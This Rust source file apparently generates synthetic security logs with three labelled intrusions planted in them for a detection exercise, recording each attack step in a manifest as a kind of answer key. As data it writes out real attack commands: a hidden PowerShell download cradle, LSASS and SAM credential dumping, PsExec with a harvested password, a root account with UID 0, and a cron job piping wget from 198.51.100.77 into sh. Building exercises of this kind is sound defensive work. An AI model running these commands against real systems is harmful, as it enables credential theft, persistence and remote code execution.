//! The three planted intrusions. Each is a quiet chain over hours and days,
//! across hosts and log sources; every record they leave is labelled, and
//! every step is listed in the manifest.

use super::benign::{CHROME_UA, POWERSHELL_UA, encode_command};
use super::emit::{From, Gen, Proc, Session, Who, sha256_of};
use super::out::Label;
use super::world::{
    Account, GUESSED_USERS, HOSTS, HOUR, I1_C2, I1_STAGE, I2_ATTACKER, I3_CHECKIN, I3_DOWNLOAD,
    I3_TUNNEL_ZONE, MINUTE, SECOND, SERVICE_ACCOUNTS, host, person,
};

const I1: usize = 0;
const I2: usize = 1;
const I3: usize = 2;

/// SHA-256 of the binaries an intrusion brings, for the manifest.
pub(crate) fn hashes(intrusion: usize) -> Vec<String> {
    match intrusion {
        I1 => vec![sha256_of("i1-msupdate")],
        I3 => vec![sha256_of("i3-installer"), sha256_of("i3-stealer")],
        _ => Vec::new(),
    }
}

impl Gen {
    /// Plants the three intrusions.
    pub(crate) fn intrusions(&mut self) {
        self.reseed("intrusion-1");
        self.label = Label::Intrusion(I1);
        self.intrusion_1();
        self.reseed("intrusion-2");
        self.label = Label::Intrusion(I2);
        self.intrusion_2();
        self.reseed("intrusion-3");
        self.label = Label::Intrusion(I3);
        self.intrusion_3();
        self.label = Label::Noise;
    }

    fn session_of(&self, name: &str, day: i64) -> Option<Session> {
        let p = person(name);
        self.sessions
            .iter()
            .find(|s| s.person == p && s.day == day)
            .cloned()
    }

    /// An implant calling home: Sysmon 3 and Zeek conn every `every` ms
    /// (± `jitter_pct` %) from `from` to the end of the capture, with a DNS
    /// lookup every `lookup_every` beats.
    #[allow(clippy::too_many_arguments)]
    fn beacon(
        &mut self,
        h: usize,
        implant: &Proc,
        from: i64,
        until: i64,
        every: i64,
        jitter_pct: i64,
        site_ip: &str,
        site_name: &str,
        lookup_every: u32,
    ) {
        let mut t = from;
        let mut beat = 0;
        while t < until {
            if beat % lookup_every == 0 {
                self.lookup(h, t - 150, implant, site_name, Some(site_ip), true);
            }
            let out = self.rng.range(400, 2600) as u64;
            let inn = self.rng.range(300, 1800) as u64;
            let dur = self.rng.range(150, 1200);
            self.connect(
                h,
                t,
                implant,
                site_ip,
                443,
                Some(site_name),
                Some(("ssl", out, inn, dur)),
            );
            beat += 1;
            let jitter = every * jitter_pct / 100;
            t += every + self.rng.range(-jitter, jitter);
        }
    }

    // ------------------------------------------------------------------
    // Intrusion 1: phishing → encoded PowerShell → rare binary → LSASS →
    // PsExec to a server → beaconing → staging and exfiltration.
    // ------------------------------------------------------------------

    fn intrusion_1(&mut self) {
        let ws = host("WS04");
        let app = host("APP01");
        let fs = host("FS01");
        let ws_ip = HOSTS[ws].ip;
        let app_ip = HOSTS[app].ip;
        let Some(tuesday) = self.session_of("dave", 1) else {
            return;
        };
        let who = tuesday.who.clone();

        // Tuesday 09:41: the macro document from the mail.
        let t = (self.day(1) + 9 * HOUR + 41 * MINUTE).max(tuesday.start + 10 * MINUTE);
        let doc = "C:\\Users\\dave\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QX2KJ4M\\Invoice_INV-88213.docm";
        let word = self.spawn(ws, t, &tuesday.outlook, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", &format!("\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{doc}\" /o \"\""), &who);
        self.file_created(ws, t - 2 * SECOND, &tuesday.outlook, doc);
        self.step(
            I1,
            t,
            "WS04",
            "T1566.001",
            "dave opens Invoice_INV-88213.docm from an email attachment in Word",
        );

        let t = t + 38 * SECOND;
        let cradle = format!(
            "$u='http://{}/cdn/ms.txt';IEX (New-Object Net.WebClient).DownloadString($u)",
            I1_STAGE.name
        );
        let ps_cmd = format!(
            "powershell.exe -nop -w hidden -enc {}",
            encode_command(&cradle)
        );
        let ps = self.spawn(
            ws,
            t,
            &word,
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            &ps_cmd,
            &who,
        );
        self.step(I1, t, "WS04", "T1059.001", "Word starts a hidden PowerShell with an encoded download cradle (-enc, IEX, Net.WebClient)");
        self.lookup(ws, t + 900, &ps, I1_STAGE.name, Some(I1_STAGE.ip), true);
        self.connect(
            ws,
            t + 1000,
            &ps,
            I1_STAGE.ip,
            80,
            Some(I1_STAGE.name),
            None,
        );
        self.zhttp(
            t + 1000,
            ws_ip,
            I1_STAGE.ip,
            80,
            "GET",
            I1_STAGE.name,
            "/cdn/ms.txt",
            None,
            200,
            3_412,
            Some("text/plain"),
        );

        let t = t + 6 * SECOND;
        let exe = "C:\\Users\\Public\\Libraries\\msupdate.exe";
        self.connect(ws, t, &ps, I1_STAGE.ip, 80, Some(I1_STAGE.name), None);
        self.zhttp(
            t,
            ws_ip,
            I1_STAGE.ip,
            80,
            "GET",
            I1_STAGE.name,
            "/cdn/msupdate.exe",
            Some(POWERSHELL_UA),
            200,
            287_744,
            Some("application/x-dosexec"),
        );
        self.file_created(ws, t + 2 * SECOND, &ps, exe);
        self.step(I1, t, "WS04", "T1105", "the script downloads msupdate.exe from the .xyz stage server into C:\\Users\\Public\\Libraries");

        let t = t + 20 * SECOND;
        let implant = self.spawn_with_hash(
            ws,
            t,
            &ps,
            exe,
            &format!("\"{exe}\" -k netsvc"),
            &who,
            "i1-msupdate",
        );
        self.exit(ws, t + 3 * SECOND, &ps);
        self.step(
            I1,
            t,
            "WS04",
            "T1204.002",
            "msupdate.exe runs from the Public profile (a binary seen on no other host)",
        );
        let beacon_start = t + 40 * SECOND;
        let end = self.end();
        self.beacon(
            ws,
            &implant,
            beacon_start,
            end,
            10 * MINUTE,
            6,
            I1_C2.ip,
            I1_C2.name,
            12,
        );
        self.step(I1, beacon_start, "WS04", "T1071.001", "msupdate.exe calls api.telemetry-cloudsvc.com (203.0.113.47:443) every ten minutes until the end of the week");

        // 10:12: persistence as a SYSTEM task at logon.
        let t = self.day(1) + 10 * HOUR + 12 * MINUTE + self.rng.range(0, 30 * SECOND);
        let cmd = self.spawn(ws, t, &implant, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c schtasks /Create /F /SC ONLOGON /RU SYSTEM /TN \"\\Microsoft\\Windows\\Maintenance\\WinSAT Update\" /TR \"cmd.exe /c start /b C:\\Users\\Public\\Libraries\\msupdate.exe\"", &who);
        let st = self.spawn(ws, t + 150, &cmd, "C:\\Windows\\System32\\schtasks.exe", "schtasks  /Create /F /SC ONLOGON /RU SYSTEM /TN \"\\Microsoft\\Windows\\Maintenance\\WinSAT Update\" /TR \"cmd.exe /c start /b C:\\Users\\Public\\Libraries\\msupdate.exe\"", &who);
        self.task_registered(
            ws,
            t + 400,
            &who,
            "\\Microsoft\\Windows\\Maintenance\\WinSAT Update",
            "cmd.exe",
            "/c start /b C:\\Users\\Public\\Libraries\\msupdate.exe",
            "S-1-5-18",
        );
        self.exit(ws, t + 600, &st);
        self.exit(ws, t + 700, &cmd);
        self.step(
            I1,
            t,
            "WS04",
            "T1053.005",
            "a scheduled task runs msupdate.exe as SYSTEM at every logon",
        );

        // 10:31: discovery.
        let mut t = self.day(1) + 10 * HOUR + 31 * MINUTE + self.rng.range(0, 30 * SECOND);
        let shell = self.spawn(
            ws,
            t,
            &implant,
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe",
            &who,
        );
        for (image, command) in [
            ("C:\\Windows\\System32\\whoami.exe", "whoami  /all"),
            ("C:\\Windows\\System32\\net.exe", "net  user dave /domain"),
            (
                "C:\\Windows\\System32\\net.exe",
                "net  group \"Domain Admins\" /domain",
            ),
            (
                "C:\\Windows\\System32\\nltest.exe",
                "nltest  /dclist:corp.local",
            ),
            ("C:\\Windows\\System32\\net.exe", "net  view \\\\FS01 /all"),
            (
                "C:\\Windows\\System32\\net.exe",
                "net  localgroup administrators",
            ),
        ] {
            t += self.rng.range(8 * SECOND, 50 * SECOND);
            let p = self.spawn(ws, t, &shell, image, command, &who);
            self.exit(ws, t + 900, &p);
        }
        self.exit(ws, t + 5 * SECOND, &shell);
        self.step(I1, t, "WS04", "T1087.002", "discovery: whoami /all, net user /domain, net group \"Domain Admins\", nltest /dclist, net view");

        // Wednesday: the logon task starts the implant as SYSTEM.
        let Some(wednesday) = self.session_of("dave", 2) else {
            return;
        };
        let procs = self.procs(ws);
        let system = Who::system(ws);
        let t = wednesday.start + 25 * SECOND;
        let task_cmd = self.spawn(
            ws,
            t,
            &procs.svchost,
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c start /b C:\\Users\\Public\\Libraries\\msupdate.exe",
            &system,
        );
        let implant_sys =
            self.spawn_with_hash(ws, t + 300, &task_cmd, exe, exe, &system, "i1-msupdate");
        self.exit(ws, t + 500, &task_cmd);
        self.step(
            I1,
            t,
            "WS04",
            "T1053.005",
            "at dave's logon the task starts a second msupdate.exe as SYSTEM",
        );

        // 11:20: LSASS dump with comsvcs.dll, SAM and SYSTEM hives.
        let t = self.day(2) + 11 * HOUR + 20 * MINUTE + self.rng.range(0, MINUTE);
        let cmd = self.spawn(
            ws,
            t,
            &implant_sys,
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe",
            &system,
        );
        let dump = self.spawn(ws, t + 6 * SECOND, &cmd, "C:\\Windows\\System32\\rundll32.exe", &format!("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {} C:\\Users\\Public\\Libraries\\dbg.dmp full", procs.lsass.pid), &system);
        self.process_access(ws, t + 6 * SECOND + 200, &dump, &procs.lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcbe|C:\\Windows\\System32\\dbgcore.DLL+6c5f|C:\\Windows\\System32\\comsvcs.dll+2b6f0|C:\\Windows\\System32\\rundll32.exe+3bd4|C:\\Windows\\System32\\KERNEL32.DLL+17374|C:\\Windows\\SYSTEM32\\ntdll.dll+4cc91");
        self.file_created(
            ws,
            t + 8 * SECOND,
            &dump,
            "C:\\Users\\Public\\Libraries\\dbg.dmp",
        );
        self.exit(ws, t + 9 * SECOND, &dump);
        self.step(
            I1,
            t + 6 * SECOND,
            "WS04",
            "T1003.001",
            "rundll32 comsvcs.dll MiniDump of LSASS to C:\\Users\\Public\\Libraries\\dbg.dmp",
        );
        let mut tt = t + 40 * SECOND;
        for (hive, file) in [("SAM", "s.hiv"), ("SYSTEM", "y.hiv")] {
            let reg = self.spawn(
                ws,
                tt,
                &cmd,
                "C:\\Windows\\System32\\reg.exe",
                &format!("reg  save HKLM\\{hive} C:\\Users\\Public\\Libraries\\{file} /y"),
                &system,
            );
            self.file_created(
                ws,
                tt + 700,
                &reg,
                &format!("C:\\Users\\Public\\Libraries\\{file}"),
            );
            self.exit(ws, tt + SECOND, &reg);
            tt += self.rng.range(5 * SECOND, 20 * SECOND);
        }
        self.exit(ws, tt + 3 * SECOND, &cmd);
        self.step(
            I1,
            t + 40 * SECOND,
            "WS04",
            "T1003.002",
            "reg save of the SAM and SYSTEM hives",
        );
        // The dump and hives leave in the next beacons.
        let out = self.rng.range(60_000_000, 80_000_000) as u64;
        self.connect(
            ws,
            tt + 2 * MINUTE,
            &implant_sys,
            I1_C2.ip,
            443,
            Some(I1_C2.name),
            Some(("ssl", out, 40_000, 9 * MINUTE)),
        );

        // 13:05: PsExec to APP01 with admin-frank's password.
        let t = self.day(2) + 13 * HOUR + 5 * MINUTE + self.rng.range(0, MINUTE);
        let frank = Account::admin(person("frank"));
        let cmd = self.spawn(
            ws,
            t,
            &implant_sys,
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe",
            &system,
        );
        let psexec_path = "C:\\Users\\Public\\Libraries\\psexec.exe";
        self.file_created(ws, t - 3 * MINUTE, &implant_sys, psexec_path);
        let psexec = self.spawn(ws, t + 3 * SECOND, &cmd, psexec_path, "psexec.exe \\\\APP01 -accepteula -u CORP\\admin-frank -p Autumn#2026 -s -d -c C:\\Users\\Public\\Libraries\\msupdate.exe", &system);
        self.security(
            ws,
            t + 3 * SECOND + 100,
            4648,
            true,
            12544,
            vec![
                ("SubjectUserSid", "S-1-5-18".into()),
                ("SubjectUserName", "WS04$".into()),
                ("SubjectDomainName", "CORP".into()),
                ("SubjectLogonId", "0x3e7".into()),
                ("LogonGuid", "{00000000-0000-0000-0000-000000000000}".into()),
                ("TargetUserName", "admin-frank".into()),
                ("TargetDomainName", "CORP".into()),
                (
                    "TargetLogonGuid",
                    "{00000000-0000-0000-0000-000000000000}".into(),
                ),
                ("TargetServerName", "APP01".into()),
                ("TargetInfo", "APP01".into()),
                ("ProcessId", format!("0x{:x}", psexec.pid).into()),
                ("ProcessName", psexec_path.into()),
                ("IpAddress", "-".into()),
                ("IpPort", "-".into()),
            ],
        );
        self.connect(
            ws,
            t + 3 * SECOND + 300,
            &psexec,
            app_ip,
            445,
            None,
            Some(("smb", 700_000, 40_000, 30_000)),
        );
        self.step(I1, t + 3 * SECOND, "WS04", "T1569.002", "PsExec from the Public profile with admin-frank's harvested password against APP01 (-s -c msupdate.exe)");
        let (implant_app, _) = self.psexec_target(
            app,
            t + 4 * SECOND,
            &frank,
            ws_ip,
            "WS04",
            true,
            Some("msupdate.exe"),
            "C:\\Windows\\msupdate.exe",
        );
        self.exit(ws, t + 40 * SECOND, &psexec);
        self.exit(ws, t + 45 * SECOND, &cmd);
        self.step(I1, t + 4 * SECOND, "APP01", "T1021.002", "type 3 logon as admin-frank from WS04, ADMIN$ write of PSEXESVC.exe and msupdate.exe, PSEXESVC service");
        self.step(
            I1,
            t + 4 * SECOND,
            "APP01",
            "T1570",
            "msupdate.exe copied to APP01 through ADMIN$",
        );
        let start = t + 2 * MINUTE;
        self.beacon(
            app,
            &implant_app,
            start,
            end,
            15 * MINUTE,
            6,
            I1_C2.ip,
            I1_C2.name,
            8,
        );
        self.step(
            I1,
            start,
            "APP01",
            "T1071.001",
            "msupdate.exe on APP01 calls home every fifteen minutes",
        );

        // Thursday 10:40: FS01's C$ and finance share, staged on APP01.
        let t = self.day(3) + 10 * HOUR + 40 * MINUTE + self.rng.range(0, MINUTE);
        let app_system = Who::system(app);
        let cmd = self.spawn(
            app,
            t,
            &implant_app,
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe",
            &app_system,
        );
        let net = self.spawn(
            app,
            t + 5 * SECOND,
            &cmd,
            "C:\\Windows\\System32\\net.exe",
            "net  use \\\\FS01\\C$ /user:CORP\\admin-frank Autumn#2026",
            &app_system,
        );
        self.exit(app, t + 7 * SECOND, &net);
        let lid = self.logon_id();
        self.logon_with(
            fs,
            t + 6 * SECOND,
            &frank,
            3,
            From {
                ip: app_ip,
                workstation: "APP01",
            },
            Some(70 * MINUTE),
            &lid,
            Some(true),
        );
        self.share_access(
            fs,
            t + 6 * SECOND + 300,
            &frank,
            &lid,
            app_ip,
            "C$",
            None,
            false,
        );
        self.share_access(
            fs,
            t + 50 * SECOND,
            &frank,
            &lid,
            app_ip,
            "Finance",
            None,
            false,
        );
        for file in [
            "Budget\\FY2027-plan.xlsx",
            "Payroll\\2026-11.csv",
            "Banking\\vendors-iban.xlsx",
            "Contracts\\acquisition-loi.pdf",
        ] {
            self.share_access(
                fs,
                t + 60 * SECOND,
                &frank,
                &lid,
                app_ip,
                "Finance",
                Some(file),
                false,
            );
        }
        self.zconn(
            t + 6 * SECOND,
            app_ip,
            HOSTS[fs].ip,
            445,
            "tcp",
            "smb,gssapi",
            900_000,
            412_000_000,
            68 * MINUTE,
            "SF",
        );
        self.step(
            I1,
            t + 6 * SECOND,
            "FS01",
            "T1021.002",
            "from APP01 as admin-frank: C$ and the Finance share on FS01",
        );
        let robo = self.spawn(
            app,
            t + 55 * SECOND,
            &cmd,
            "C:\\Windows\\System32\\Robocopy.exe",
            "robocopy  \\\\FS01\\Finance C:\\Windows\\Temp\\f /E /R:0 /W:0 /NP",
            &app_system,
        );
        self.exit(app, t + 66 * MINUTE, &robo);
        self.file_created(
            app,
            t + 67 * MINUTE,
            &implant_app,
            "C:\\Windows\\Temp\\7za.exe",
        );
        let zip = self.spawn(app, t + 68 * MINUTE, &cmd, "C:\\Windows\\Temp\\7za.exe", "C:\\Windows\\Temp\\7za.exe a -mx3 -pQ3rT8wL1 C:\\Windows\\Temp\\f.7z C:\\Windows\\Temp\\f", &app_system);
        self.file_created(app, t + 74 * MINUTE, &zip, "C:\\Windows\\Temp\\f.7z");
        self.exit(app, t + 74 * MINUTE, &zip);
        self.step(
            I1,
            t + 55 * SECOND,
            "APP01",
            "T1039",
            "robocopy of the Finance share to C:\\Windows\\Temp\\f",
        );
        self.step(
            I1,
            t + 68 * MINUTE,
            "APP01",
            "T1560.001",
            "7-Zip archive with a password",
        );

        // 14:15: the archive goes out to the C2 server.
        let t = self.day(3) + 14 * HOUR + 15 * MINUTE + self.rng.range(0, MINUTE);
        self.connect(
            app,
            t,
            &implant_app,
            I1_C2.ip,
            443,
            Some(I1_C2.name),
            Some(("ssl", 398_000_000, 210_000, 41 * MINUTE)),
        );
        self.step(
            I1,
            t,
            "APP01",
            "T1041",
            "400 MB upload to the C2 server over HTTPS",
        );
    }

    // ------------------------------------------------------------------
    // Intrusion 2: SSH brute force on web01, deploy's password, a UID 0
    // account, cron persistence fetching a script every ten minutes.
    // ------------------------------------------------------------------

    fn intrusion_2(&mut self) {
        let web = host("web01");
        let attacker = I2_ATTACKER;
        let mut t = self.day(3) + 22 * HOUR + 50 * MINUTE + self.rng.range(0, MINUTE);
        let first = t;
        let until = self.day(4) + HOUR + 5 * MINUTE;
        let mut attempts = 0;
        while t < until {
            let user = if attempts % 9 == 4 {
                "deploy"
            } else if attempts % 3 == 0 {
                "root"
            } else {
                GUESSED_USERS[(attempts * 7 + 3) % GUESSED_USERS.len()]
            };
            self.ssh_failure(web, t, attacker, user);
            attempts += 1;
            t += self.rng.range(8 * SECOND, 18 * SECOND);
        }
        self.step(I2, first, "web01", "T1110.001", format!("{attempts} SSH password guesses from 198.51.100.77 over many user names, deploy among them"));

        // 01:05: deploy's password works.
        let t = until + 40 * SECOND;
        let pid = self.linux_pid();
        let port = 53_312;
        self.syslog(
            web,
            t,
            "sshd",
            pid,
            format!("Accepted password for deploy from {attacker} port {port} ssh2"),
        );
        self.syslog(
            web,
            t + 8,
            "sshd",
            pid,
            "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
        );
        self.syslog(
            web,
            t + 15,
            "systemd-logind",
            812,
            "New session 431 of user deploy.",
        );
        self.zconn(
            t - 500,
            attacker,
            HOSTS[web].ip,
            22,
            "tcp",
            "ssh",
            48_000,
            96_000,
            11 * MINUTE,
            "SF",
        );
        self.step(
            I2,
            t,
            "web01",
            "T1078.003",
            "password login as deploy from the brute-forcing address",
        );

        let mut now = t + 70 * SECOND;
        let sudo = |g: &mut Gen, now: i64, command: &str| {
            let spid = g.linux_pid();
            g.syslog(
                web,
                now,
                "sudo",
                spid,
                format!("  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND={command}"),
            );
            g.syslog(
                web,
                now + 3,
                "sudo",
                spid,
                "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)",
            );
            g.syslog(
                web,
                now + 900,
                "sudo",
                spid,
                "pam_unix(sudo:session): session closed for user root",
            );
        };
        sudo(self, now, "/usr/bin/id");
        now += 2 * MINUTE;
        sudo(
            self,
            now,
            "/usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupdate",
        );
        let upid = self.linux_pid();
        self.syslog(
            web,
            now + 400,
            "useradd",
            upid,
            "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
        );
        self.step(
            I2,
            now,
            "web01",
            "T1136.001",
            "sudo useradd -o -u 0: a second root account, sysupdate",
        );
        now += 40 * SECOND;
        sudo(self, now, "/usr/bin/passwd sysupdate");
        let ppid = self.linux_pid();
        self.syslog(
            web,
            now + 9 * SECOND,
            "passwd",
            ppid,
            "pam_unix(passwd:chauthtok): password changed for sysupdate",
        );
        now += 60 * SECOND;
        sudo(self, now, "/usr/bin/crontab -e");
        let cpid = self.linux_pid();
        self.syslog(web, now + 500, "crontab", cpid, "(root) BEGIN EDIT (root)");
        self.syslog(
            web,
            now + 41 * SECOND,
            "crontab",
            cpid,
            "(root) REPLACE (root)",
        );
        self.syslog(
            web,
            now + 41 * SECOND + 20,
            "crontab",
            cpid,
            "(root) END EDIT (root)",
        );
        self.step(
            I2,
            now,
            "web01",
            "T1053.003",
            "root crontab: every ten minutes, wget the attacker's script and pipe it to sh",
        );
        now += 2 * MINUTE;
        sudo(
            self,
            now,
            "/usr/bin/shred -u /root/.bash_history /home/deploy/.bash_history",
        );
        self.step(
            I2,
            now,
            "web01",
            "T1070.003",
            "sudo shred of root's and deploy's shell history",
        );
        let logout = now + MINUTE;
        self.syslog(
            web,
            logout,
            "sshd",
            pid,
            format!("Received disconnect from {attacker} port {port}:11: disconnected by user"),
        );
        self.syslog(
            web,
            logout + 2,
            "sshd",
            pid,
            format!("Disconnected from user deploy {attacker} port {port}"),
        );
        self.syslog(
            web,
            logout + 4,
            "sshd",
            pid,
            "pam_unix(sshd:session): session closed for user deploy",
        );
        self.syslog(
            web,
            logout + 6,
            "systemd-logind",
            812,
            "Removed session 431.",
        );

        // cron picks the new crontab up at the next minute, then runs it
        // every ten minutes.
        let reload = (now + 41 * SECOND) / MINUTE * MINUTE + MINUTE + 100;
        self.syslog(web, reload, "cron", 712, "(root) RELOAD (crontabs/root)");
        let mut t = (reload / (10 * MINUTE) + 1) * 10 * MINUTE;
        self.step(I2, t, "web01", "T1105", "the cron job fetches http://198.51.100.77/.x/u.sh every ten minutes until the end of the week");
        while t < self.end() {
            let offset = self.rng.range(0, 900);
            self.cron(
                web,
                t + offset,
                "root",
                "wget -q -O - http://198.51.100.77/.x/u.sh | sh >/dev/null 2>&1",
            );
            let len = 1_000 + self.rng.below(400);
            self.zhttp(
                t + 1_300,
                HOSTS[web].ip,
                attacker,
                80,
                "GET",
                attacker,
                "/.x/u.sh",
                Some("Wget/1.21.4"),
                200,
                len,
                Some("text/x-shellscript"),
            );
            t += 10 * MINUTE;
        }

        // Friday 03:30 and Saturday 02:10: back in as sysupdate.
        for (day, hour, minute) in [(4, 3, 30), (5, 2, 10)] {
            let t = self.day(day) + hour * HOUR + minute * MINUTE + self.rng.range(0, MINUTE);
            let n = 500 + day as u32;
            let end = self.ssh_session(web, t, "sysupdate", 0, attacker, "password", n, &[], true);
            self.step(
                I2,
                t,
                "web01",
                "T1078.003",
                format!(
                    "password login as sysupdate (UID 0) from 198.51.100.77, {} minutes",
                    (end - t) / MINUTE
                ),
            );
        }
    }

    // ------------------------------------------------------------------
    // Intrusion 3: known-bad installer → stealer → Kerberoasting → DNS
    // tunnel → svc_sql on SQL01.
    // ------------------------------------------------------------------

    fn intrusion_3(&mut self) {
        let ws = host("WS07");
        let ip = HOSTS[ws].ip;
        let dc = host("DC01");
        let sql = host("SQL01");
        let Some(friday) = self.session_of("grace", 4) else {
            return;
        };
        let who = friday.who.clone();

        // Friday 13:20: the download.
        let t = (self.day(4) + 13 * HOUR + 20 * MINUTE).max(friday.start + 20 * MINUTE);
        let installer = "C:\\Users\\grace\\Downloads\\PDFConverterSetup_v4.2.exe";
        self.lookup(
            ws,
            t - 400,
            &friday.chrome,
            I3_DOWNLOAD.name,
            Some(I3_DOWNLOAD.ip),
            true,
        );
        self.connect(
            ws,
            t,
            &friday.chrome,
            I3_DOWNLOAD.ip,
            80,
            Some(I3_DOWNLOAD.name),
            None,
        );
        self.zhttp(
            t,
            ip,
            I3_DOWNLOAD.ip,
            80,
            "GET",
            I3_DOWNLOAD.name,
            "/files/PDFConverterSetup_v4.2.exe",
            Some(CHROME_UA),
            200,
            4_118_528,
            Some("application/x-dosexec"),
        );
        self.file_created(ws, t + 4 * SECOND, &friday.chrome, installer);
        self.step(I3, t, "WS07", "T1189", "grace downloads PDFConverterSetup_v4.2.exe over HTTP from dl.pdf-converter-free.top (domain and address in the intel feed)");

        let t = t + 35 * SECOND;
        let setup = self.spawn_with_hash(
            ws,
            t,
            &friday.explorer,
            installer,
            &format!("\"{installer}\" "),
            &who,
            "i3-installer",
        );
        self.step(
            I3,
            t,
            "WS07",
            "T1204.002",
            "she runs the installer; its SHA-256 is in the intel feed",
        );
        let stealer_path = "C:\\Users\\grace\\AppData\\Roaming\\PdfConv\\pdfconvsvc.exe";
        self.file_created(ws, t + 9 * SECOND, &setup, stealer_path);
        let stealer = self.spawn_with_hash(
            ws,
            t + 12 * SECOND,
            &setup,
            stealer_path,
            &format!("\"{stealer_path}\" --bg"),
            &who,
            "i3-stealer",
        );
        self.registry_set(ws, t + 13 * SECOND, &setup, "HKU\\S-1-5-21-1418150370-2943587362-2580283217-1110\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\PdfConvUpdater", &format!("\"{stealer_path}\" --bg"));
        self.exit(ws, t + 30 * SECOND, &setup);
        self.step(
            I3,
            t + 12 * SECOND,
            "WS07",
            "T1547.001",
            "pdfconvsvc.exe dropped in AppData with a Run key",
        );

        // Check-ins every half hour with heavy jitter, to the end.
        let mut c = t + 2 * MINUTE;
        let end = self.end();
        let mut beat = 0;
        while c < end {
            if beat % 4 == 0 {
                self.lookup(
                    ws,
                    c - 120,
                    &stealer,
                    I3_CHECKIN.name,
                    Some(I3_CHECKIN.ip),
                    true,
                );
            }
            let out = self.rng.range(600, 9000) as u64;
            let inn = self.rng.range(400, 3000) as u64;
            let duration = self.rng.range(200, 3000);
            self.connect(
                ws,
                c,
                &stealer,
                I3_CHECKIN.ip,
                443,
                Some(I3_CHECKIN.name),
                Some(("ssl", out, inn, duration)),
            );
            beat += 1;
            c += self.rng.range(12 * MINUTE, 48 * MINUTE);
        }
        self.step(I3, t + 2 * MINUTE, "WS07", "T1071.001", "pdfconvsvc.exe checks in with cdn-static-assets.net (192.0.2.200, in the intel feed) every 12 to 48 minutes");

        // 14:02: SPN discovery and Kerberoasting.
        let t = self.day(4) + 14 * HOUR + 2 * MINUTE + self.rng.range(0, MINUTE);
        let setspn = self.spawn(
            ws,
            t,
            &stealer,
            "C:\\Windows\\System32\\setspn.exe",
            "setspn.exe -T corp.local -Q */*",
            &who,
        );
        self.exit(ws, t + 2 * SECOND, &setspn);
        let grace = Account::person(person("grace"));
        let mut tt = t + 20 * SECOND;
        for account in SERVICE_ACCOUNTS.iter().filter(|a| a.spn.is_some()) {
            let sid = Account::service(account.name).sid;
            self.tgs(dc, tt, &grace, account.name, &sid, ip, "0x17");
            // The stealer speaks Kerberos itself (not through LSASS).
            self.connect(
                ws,
                tt - 20,
                &stealer,
                HOSTS[dc].ip,
                88,
                Some("dc01.corp.local"),
                Some(("krb_tcp", 1_500, 1_400, 15)),
            );
            tt += self.rng.range(300, 2500);
        }
        self.step(
            I3,
            t,
            "WS07",
            "T1087.002",
            "setspn -Q */* lists the service accounts",
        );
        self.step(
            I3,
            t + 20 * SECOND,
            "DC01",
            "T1558.003",
            "RC4 service tickets for every account with an SPN within seconds, from WS07 as grace",
        );

        // 15:10 to 17:40: the DNS tunnel.
        let mut t = self.day(4) + 15 * HOUR + 10 * MINUTE + self.rng.range(0, MINUTE);
        let start = t;
        let stop = self.day(4) + 17 * HOUR + 40 * MINUTE;
        let mut seq = 0u32;
        while t < stop {
            let mut label = String::with_capacity(52);
            const B32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
            for _ in 0..52 {
                label.push(B32[self.rng.below(32) as usize] as char);
            }
            let name = format!("{label}.{seq:04x}.{I3_TUNNEL_ZONE}");
            self.sysmon(
                ws,
                t,
                22,
                vec![
                    ("ProcessGuid", stealer.guid.clone().into()),
                    ("ProcessId", stealer.pid.to_string().into()),
                    ("QueryName", name.clone().into()),
                    ("QueryStatus", "0".into()),
                    ("QueryResults", "type:  16 ok;".into()),
                    ("Image", stealer.image.clone().into()),
                    ("User", stealer.who.user.clone().into()),
                ],
            );
            self.zdns(
                t + 2,
                ip,
                "10.10.1.10",
                &name,
                "TXT",
                Some("TXT 2 ok".to_owned()),
            );
            seq += 1;
            t += self.rng.range(10 * SECOND, 22 * SECOND);
        }
        self.step(I3, start, "WS07", "T1048.003", format!("{seq} DNS TXT queries with 52-character base32 labels under t.cloud-sync-cdn.net until 17:40"));

        // Saturday 21:14: svc_sql's cracked password on SQL01.
        let t = self.day(5) + 21 * HOUR + 14 * MINUTE + self.rng.range(0, MINUTE);
        let svc_sql = Account::service("svc_sql");
        let shell = self.spawn(ws, t, &stealer, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c net use \\\\SQL01\\C$ /user:CORP\\svc_sql Summer2019!", &who);
        let net = self.spawn(
            ws,
            t + 200,
            &shell,
            "C:\\Windows\\System32\\net.exe",
            "net  use \\\\SQL01\\C$ /user:CORP\\svc_sql Summer2019!",
            &who,
        );
        self.security(
            ws,
            t + 300,
            4648,
            true,
            12544,
            vec![
                ("SubjectUserSid", grace.sid.clone().into()),
                ("SubjectUserName", "grace".into()),
                ("SubjectDomainName", "CORP".into()),
                ("SubjectLogonId", friday.logon_id.clone().into()),
                ("LogonGuid", "{00000000-0000-0000-0000-000000000000}".into()),
                ("TargetUserName", "svc_sql".into()),
                ("TargetDomainName", "CORP".into()),
                (
                    "TargetLogonGuid",
                    "{00000000-0000-0000-0000-000000000000}".into(),
                ),
                ("TargetServerName", "SQL01".into()),
                ("TargetInfo", "SQL01".into()),
                ("ProcessId", format!("0x{:x}", net.pid).into()),
                ("ProcessName", "C:\\Windows\\System32\\net.exe".into()),
